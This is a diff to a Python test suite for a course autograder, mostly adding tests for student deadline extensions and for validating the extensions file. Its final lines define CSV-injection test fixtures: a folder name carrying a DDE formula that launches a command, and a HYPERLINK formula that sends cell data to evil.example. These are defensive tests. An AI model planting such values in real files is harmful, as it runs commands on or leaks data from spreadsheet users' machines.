@@ -131,6 +131,108 @@ def test_unknown_submitters_get_one_row_and_a_failure_is_an_error_row():
         ("Pat", "", "grading took longer than 900 s"), ("Sam", "", "grading took longer than 900 s")]
 
 
+# -- extensions -----------------------------------------------------------------------------
+def grade_in_process(settings, folder, metadata_path, target):
+    """grade_folder without a process of its own: the essay runs no student code."""
+    metadata = json.loads(metadata_path.read_text()) if metadata_path else None
+    document = runner.grade(SONG, folder, metadata)
+    target.write_text(json.dumps(document))
+    return document
+
+
+def test_extensions_move_a_students_deadline_in_grades_csv_and_the_merge(tmp_path, monkeypatch):
+    """Student Two (33.5 h late) has a new due date, by email; the pair (31 min late) has a
+    day more, by the sid of one member: both are on time. The row says which deadline
+    applied, and rubric --merge charges what results.json charged."""
+    monkeypatch.setattr(batch, "grade_folder", grade_in_process)
+    source, out = export_folder(tmp_path / "export"), tmp_path / "out"
+    granted = tmp_path / "extensions.csv"
+    granted.write_text("name,email,sid,due,days\n"
+                       "Two,STUDENT2@example.edu,,2024-09-22 23:59 America/New_York,\n"
+                       "Pair,,1004,,1\n")
+    rows = {row["student"]: row for row in batch.grade_all(SONG, source, out, extended=granted)}
+    assert {name: (row["late_days"], row["deadline"], row["deadline_source"])
+            for name, row in rows.items()} == {
+        "Student One": (0, "2024-09-20T23:59:00-04:00", "assignment.yaml"),
+        "Student Two": (0, "2024-09-22T23:59:00-04:00", "extensions file"),
+        "Pair One": (0, "2024-09-21T23:59:00-04:00", "extensions file"),
+        "Pair Two": (0, "2024-09-21T23:59:00-04:00", "extensions file")}
+    written = {row["student"]: row for row in read_rows(out / "grades.csv")}
+    assert written["Student Two"]["deadline_source"] == "extensions file"
+    late_row = json.loads((out / "results" / "submission_2610002.json").read_text())["tests"][-1]
+    assert "after your extended deadline" not in late_row["output"]  # on time: says so
+    assert "your extended deadline: 2024-09-22 23:59 EDT" in late_row["output"]
+    manual = tmp_path / "manual.csv"
+    with open(manual, "w", newline="") as f:
+        writer = csv.DictWriter(f, ["submission", *MANUAL])
+        writer.writeheader()
+        for sid in ("submission_2610001", "submission_2610002", "submission_2610003"):
+            writer.writerow({"submission": sid, **dict.fromkeys(MANUAL, 0)})
+    assert rubric.merge(SONG, manual, out, tmp_path / "final.csv") == []
+    assert {r["submission"]: r["late_penalty"] for r in read_rows(tmp_path / "final.csv")} == {
+        "submission_2610001": "0.0", "submission_2610002": "0.0", "submission_2610003": "0.0"}
+
+
+def test_gradescopes_own_due_dates_in_the_export_count_and_win_over_the_file(tmp_path,
+                                                                             monkeypatch):
+    monkeypatch.setattr(batch, "grade_folder", grade_in_process)
+    source = export_folder(tmp_path / "export", sids=("submission_2610002",))
+    index = yaml.safe_load((source / "submission_metadata.yml").read_text())
+    index["submission_2610002"][":submitters"][0][":assignment"] = {
+        ":due_date": "2024-09-21 23:59:00.000000000 -04:00"}  # a day more, on Gradescope
+    (source / "submission_metadata.yml").write_text(yaml.safe_dump(index))
+    granted = tmp_path / "extensions.csv"
+    granted.write_text("email,days\nstudent2@example.edu,3\n")
+    (row,) = batch.grade_all(SONG, source, tmp_path / "out", extended=granted)
+    assert (row["late_days"], row["deadline_source"]) == (1, "extension")
+    late = json.loads((tmp_path / "out" / "results" / "submission_2610002.json").read_text())
+    assert "extensions file's deadline (2024-09-23 23:59 EDT) differs from Gradescope's " \
+           "extension (2024-09-21 23:59 EDT)" in late["extra_data"]["late"]["disagreement"]
+    # the assignment's due date on Gradescope, where the export has it, is the base of days
+    index["submission_2610002"][":submitters"][0].pop(":assignment")
+    index["submission_2610002"][":assignment"] = {":due_date": "2024-09-19 23:59:00 -04:00"}
+    (source / "submission_metadata.yml").write_text(yaml.safe_dump(index))
+    granted.write_text("email,days\nstudent2@example.edu,2\n")
+    (row,) = batch.grade_all(SONG, source, tmp_path / "out", extended=granted)
+    assert (row["late_days"], row["deadline"], row["deadline_source"]) == (
+        1, "2024-09-21T23:59:00-04:00", "extensions file")
+
+
+@pytest.mark.parametrize(("text", "message"), [
+    ("name,due\nAnn,2024-09-22 23:59 America/New_York\n",
+     "extensions.csv: line 1: the columns are 'email' or 'sid', and 'due' or 'days' "
+     "(found: name, due)"),
+    ("email,due\na@x.edu,2024-09-22 23:59 America/New_York\nb@x.edu,2024-09-22 23:59\n",
+     "extensions.csv: line 3: due: '2024-09-22 23:59' is neither 'YYYY-MM-DD HH:MM ZONE' (e.g. "
+     "'2026-03-02 23:59 America/New_York') nor ISO 8601 with a UTC offset"),
+    ("email,due\na@x.edu,2024-09-22 23:59 America/New_Yrok\n",
+     "extensions.csv: line 2: due: unknown time zone 'America/New_Yrok'"),
+    ("sid,days\n1001,2\n1002,two\n",
+     "extensions.csv: line 3: days: 'two' is not a number of days from 0 to 366"),
+    ("email,due,days\na@x.edu,2024-09-22T23:59:00-04:00,2\n",
+     "extensions.csv: line 2: give 'due' or 'days', not both"),
+    ("email,days\nA@x.edu,2\n\na@X.edu,3\n",
+     "extensions.csv: line 4: a second row for email 'a@X.edu' (the first is line 2)"),
+])
+def test_a_bad_extensions_file_is_one_line_naming_it_and_the_line(tmp_path, text, message):
+    source = export_folder(tmp_path / "export", sids=("submission_2610001",))
+    (tmp_path / "extensions.csv").write_text(text)
+    done = run_cli("grade-batch", "song_contest", str(source), "--out", str(tmp_path / "out"),
+                   "--extensions", str(tmp_path / "extensions.csv"), check=False)
+    assert (done.returncode, done.stdout, done.stderr) == (2, "", f"autograder: error: {message}\n")
+    assert not (tmp_path / "out" / "results" / "submission_2610001.json").exists()
+
+
+def test_an_extension_for_no_submitter_is_a_warning(tmp_path, monkeypatch, capsys):
+    monkeypatch.setattr(batch, "grade_folder", grade_in_process)
+    source = export_folder(tmp_path / "export", sids=("submission_2610001",))
+    granted = tmp_path / "extensions.csv"
+    granted.write_text("email,days\nnobody@x.edu,2\n")
+    batch.grade_all(SONG, source, tmp_path / "out", extended=granted)
+    assert "warning: extensions.csv: line 2: no submission by email 'nobody@x.edu'" in \
+        capsys.readouterr().err
+
+
 # -- what a submission says reaches the instructor's spreadsheet and YAML parser --------------
 FOLDER = "=1+1+cmd|' -c calc'!A0"  # a submission's folder name (no slash in it)
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
